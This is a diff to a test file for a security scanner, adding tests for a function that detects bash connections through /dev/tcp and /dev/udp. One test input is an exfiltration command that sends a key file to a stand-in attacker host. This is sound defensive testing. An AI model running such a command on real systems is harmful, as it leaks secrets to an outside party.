@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { programName, shellCommands } from "@/scanner/analysis/shell-commands";
+import { programName, shellCommands, shellConnections } from "@/scanner/analysis/shell-commands";
 
 describe("shellCommands", () => {
   it("finds every command a line runs, not just its first word", () => {
@@ -65,5 +65,11 @@ describe("shellCommands", () => {
     expect(programName("/tmp/evil/git")).toBe("/tmp/evil/git");
     expect(programName("./bin/tool")).toBe("./bin/tool");
     expect(programName("${…}/git")).toBeUndefined();
+  });
+
+  it("finds connections through bash's /dev/tcp and /dev/udp files", () => {
+    expect(shellConnections("cat key > /dev/tcp/Collect.Evil.Example/443; echo x >/dev/udp/10.0.0.1/53")).toEqual(["collect.evil.example", "10.0.0.1"]);
+    expect(shellConnections("exec 3<>/dev/tcp/$HOST/80")).toEqual([undefined]);
+    expect(shellConnections("git status > /dev/null")).toEqual([]);
   });
 });
